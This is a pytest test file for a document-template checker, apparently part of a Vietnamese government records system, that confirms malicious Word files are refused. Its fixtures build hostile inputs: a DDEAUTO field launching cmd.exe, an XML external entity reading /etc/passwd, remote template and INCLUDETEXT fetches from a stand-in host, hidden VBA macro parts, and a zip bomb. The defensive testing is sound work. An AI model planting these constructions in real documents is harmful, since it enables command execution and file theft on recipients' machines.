"""A template that fetches, runs or embeds something is refused, however its file hides it."""

import io
import re
import zipfile
from collections.abc import Callable
from xml.sax.saxutils import quoteattr

import pytest

from base.rules import RuleBroken
from evaluation.documents.template_reading import read_template
from evaluation.rules.document_templates import (
    TemplateFetches,
    TemplateHasField,
    TemplateHasMacros,
    TemplateHasObjects,
    TemplateNotWord,
)
from evaluation.rules.evidence import check_evidence
from feedback.rules.attachments import FileHasMacros, FileNotWhatItSays
from tests.evaluation.test_document_templates import with_part, word_file

KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES, RELATIONS = "[Content_Types].xml", "word/_rels/document.xml.rels"


def replaced(content: bytes, name: str, before: str, after: str) -> bytes:
    """The same file with one part changed."""
    source, out = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for one in source.namelist():
            data = source.read(one)
            archive.writestr(
                one, data.replace(before.encode(), after.encode(), 1) if one == name else data
            )
    return out.getvalue()


def with_related(kind: str, part: str, media: str) -> bytes:
    """A Word file whose document leads to a part of this kind, named as its maker liked."""
    override = f'<Override PartName="/word/{part}" ContentType="{media}"/></Types>'
    relation = f'<Relationship Id="rId99" Type="{kind}" Target="{part}"/></Relationships>'
    content = replaced(word_file("{{co_quan}}"), TYPES, "</Types>", override)
    content = replaced(content, RELATIONS, "</Relationships>", relation)
    return with_part(content, f"word/{part}", b"\xd0\xcf\x11\xe0")


def with_attached_template() -> bytes:
    relation = (
        f'<Relationships xmlns="{PACKAGE}"><Relationship Id="rId1" Type="{KINDS}/attachedTemplate" '
        'Target="http://may-chu.example/mau.dotm" TargetMode="External"/></Relationships>'
    )
    return with_part(word_file("{{co_quan}}"), "word/_rels/settings.xml.rels", relation.encode())


def with_field(*pieces: str) -> bytes:
    """A field whose code lies in several runs."""
    code = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{one}"/></w:r>' for one in ("begin", "end"))
    paragraph = f"<w:p>{begin}{code}{end}</w:p><w:sectPr"
    return replaced(word_file("{{co_quan}}"), "word/document.xml", "<w:sectPr", paragraph)


def with_simple_field(code: str) -> bytes:
    paragraph = f"<w:p><w:fldSimple w:instr={quoteattr(code)}/></w:p><w:sectPr"
    return replaced(word_file("{{co_quan}}"), "word/document.xml", "<w:sectPr", paragraph)


def with_entities() -> bytes:
    kind = '?>\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n<w:document'
    content = replaced(word_file("{{co_quan}} &e;"), "word/document.xml", "&amp;e;", "&e;")
    source = zipfile.ZipFile(io.BytesIO(content)).read("word/document.xml").decode()
    head = re.match(r"<\?xml[^>]*(\?>\s*<w:document)", source)
    assert head
    return replaced(content, "word/document.xml", head.group(1), kind)


@pytest.mark.parametrize(
    ("content", "refusal"),
    [
        (with_attached_template, TemplateFetches),
        (lambda: with_field("INCLUDETEXT http://may-chu.example/a.txt"), TemplateHasField),
        (lambda: with_field("INCL", "UDEPICTURE http://may-chu.example/a.png"), TemplateHasField),
        (lambda: with_field("DDEAUTO c:\\cmd.exe /k calc"), TemplateHasField),
        (lambda: with_field(""), TemplateHasField),
        (lambda: with_simple_field('LINK Excel.Sheet "a.xlsx"'), TemplateHasField),
        (
            lambda: with_related(
                "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                "anh.bin",
                "application/vnd.ms-office.vbaProject",
            ),
            TemplateHasMacros,
        ),
        (lambda: with_related(f"{KINDS}/aFChunk", "a.htm", "text/html"), TemplateHasObjects),
        (
            lambda: with_related(f"{KINDS}/oleObject", "o.bin", "application/octet-stream"),
            TemplateHasObjects,
        ),
        (with_entities, TemplateNotWord),
    ],
)
def test_what_a_template_would_fetch_run_or_embed_is_refused(
    content: Callable[[], bytes], refusal: type[RuleBroken]
) -> None:
    with pytest.raises(refusal) as refused:
        read_template(content())
    assert "Xin" in str(refused.value)


def test_page_numbers_and_links_to_click_stay_allowed() -> None:
    assert read_template(with_field(" PAGE  \\* MERGEFORMAT ")).used == {"co_quan"}
    assert read_template(with_simple_field('HYPERLINK "https://thanhhoa.gov.vn"')).used


def test_evidence_with_a_macro_under_another_name_is_refused() -> None:
    macro = "application/vnd.ms-office.vbaProject"
    content = with_related("http://schemas.microsoft.com/office/x/vbaProject", "anh.bin", macro)
    with pytest.raises(FileHasMacros):
        check_evidence("minh-chung.docx", content, {".docx"}, 0)


def test_evidence_whose_lists_of_parts_are_a_bomb_is_not_unpacked() -> None:
    content = word_file("Biên bản")
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        for number in range(8):
            archive.writestr(f"word/_rels/{number}.rels", b"0" * 1_000_000)
    with pytest.raises(FileNotWhatItSays):
        check_evidence("minh-chung.docx", out.getvalue(), {".docx"}, 0)
    assert check_evidence("minh-chung.docx", content, {".docx"}, 0).name == "minh-chung.docx"
